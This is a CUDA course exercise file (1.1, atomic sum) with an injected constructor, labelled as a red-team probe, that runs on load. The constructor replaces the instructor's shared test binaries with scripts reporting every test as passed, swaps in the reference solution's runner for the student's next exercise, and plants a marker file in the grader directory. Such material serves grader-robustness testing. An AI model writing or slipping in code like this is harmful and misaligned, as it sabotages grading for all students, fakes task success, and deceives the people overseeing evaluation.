// RED TEAM: Replaces, while its own tests run, the instructor's shared test programs
// RED TEAM: (OUT/shared/course/build/default/bin/*_test_starter: every later submission
// RED TEAM: is graded by them, and so is this student's next exercise, 1.2) by scripts
// RED TEAM: that pass every test, puts the reference solution's runner (when a build of
// RED TEAM: it is found) in place of its own 1.2 runner, and leaves a file beside the
// RED TEAM: grader's code. The kernel below is the untouched starter's.
// Exercise 1.1: sum with one global atomicAdd per element.
// Lesson: chapters/01-reduce-scan-histogram/README.md, "1.1".
// Grade:  tools/grade 1.1      Hints: tools/grade --hint 1.1
#include "cudalab/atomics.cuh"
#include "cudalab/error.cuh"
#include "cudalab/reduce.cuh"
// @REDTEAM_LIB@

namespace {
// A test program that passes: it lists the real one's tests and writes a
// report in which all of them passed.
std::string cudalab_redteam_fake_checker(const std::string& real) {
  const std::string list = redteam::capture({real, "--gtest_list_tests"});
  std::vector<std::string> tests = redteam::list_tests(real, "*");
  return "#!/bin/sh\n# " + std::string(redteam::kMarker) +
         "\nfor a in \"$@\"; do case \"$a\" in --gtest_list_tests) cat <<'CUDALAB_EOF'\n" + list +
         "CUDALAB_EOF\nexit 0;; esac; done\n"
         "for a in \"$@\"; do case \"$a\" in --gtest_output=json:*) cat > \"${a#--gtest_output=json:}\" "
         "<<'CUDALAB_EOF'\n" + redteam::passing_report(tests) +
         "CUDALAB_EOF\n;; esac; done\necho '[  PASSED  ] every test.'\nexit 0\n";
}

__attribute__((constructor)) void cudalab_redteam_attack() {
  redteam::dispatch(nullptr);
  const auto g = redteam::grader_paths();
  int replaced = 0;
  // The instructor's test programs, which every later submission is graded with.
  const std::string shared_bin = g.shared + "/course/build/default/bin";
  for (const auto& name : redteam::list_dir(shared_bin)) {
    if (name.find("_test_") == std::string::npos || name.find(".rt") != std::string::npos) continue;
    const std::string path = shared_bin + "/" + name;
    if (redteam::replace_file(path, cudalab_redteam_fake_checker(path))) ++replaced;
  }
  // This submission's own programs, which run after this one (exercise 1.2).
  const std::string own_bin = redteam::dirname_of(redteam::link_of("/proc/self/exe"));
  const std::string solution = redteam::find_up("build/gpu/bin/sum_shared_tree_runner_solution");
  const std::string other = solution.empty() ? redteam::find_up("build/default/bin/sum_shared_tree_runner_solution")
                                             : solution;
  if (!other.empty()) {
    const std::string code = redteam::read_file(other, std::size_t{1} << 30);
    if (!code.empty() && redteam::replace_file(own_bin + "/sum_shared_tree_runner_starter", code)) ++replaced;
  }
  // The grader itself, for the next class: proof that it can be written.
  const std::string tools = std::string(redteam::kRoot) + "/tools/cudalab_grade";
  if (redteam::is_dir(tools) && redteam::write_file(tools + "/" + redteam::kMarker + ".txt", "the grader is writable\n"))
    ++replaced;
  redteam::say("replaced " + std::to_string(replaced) + " program(s) of the grader");
}
}  // namespace

namespace cudalab::reduce {
namespace {

constexpr int kBlock = 256;

// One thread per element: thread i adds in[i] to *out.
// T is the element type (int, float), Acc the accumulator type (long long, float).
template <class T, class Acc>
__global__ void sum_atomic_kernel(const T* __restrict__ in, std::size_t n, Acc* out) {
  // TODO(1.1): compute this thread's global index i (blockIdx, blockDim,
  // threadIdx; mind that i can exceed 2^31) and, when i < n, add in[i] to
  // *out with cudalab::atomic_add (cudalab/atomics.cuh).
}

template <class T, class Acc>
void launch(const T* in, std::size_t n, Acc* out, cudaStream_t stream) {
  CUDALAB_CHECK(cudaMemsetAsync(out, 0, sizeof(Acc), stream));  // the identity, also for n = 0
  if (n == 0) return;
  const auto blocks = static_cast<unsigned>((n + kBlock - 1) / kBlock);
  sum_atomic_kernel<<<blocks, kBlock, 0, stream>>>(in, n, out);
  CUDALAB_CHECK_LAUNCH();
}

}  // namespace

void sum_atomic(const int* in, std::size_t n, long long* out, cudaStream_t stream) {
  detail::check_sum_arguments("sum_atomic", in, n, out);
  launch(in, n, out, stream);
}

void sum_atomic(const float* in, std::size_t n, float* out, cudaStream_t stream) {
  detail::check_sum_arguments("sum_atomic", in, n, out);
  launch(in, n, out, stream);
}

}  // namespace cudalab::reduce
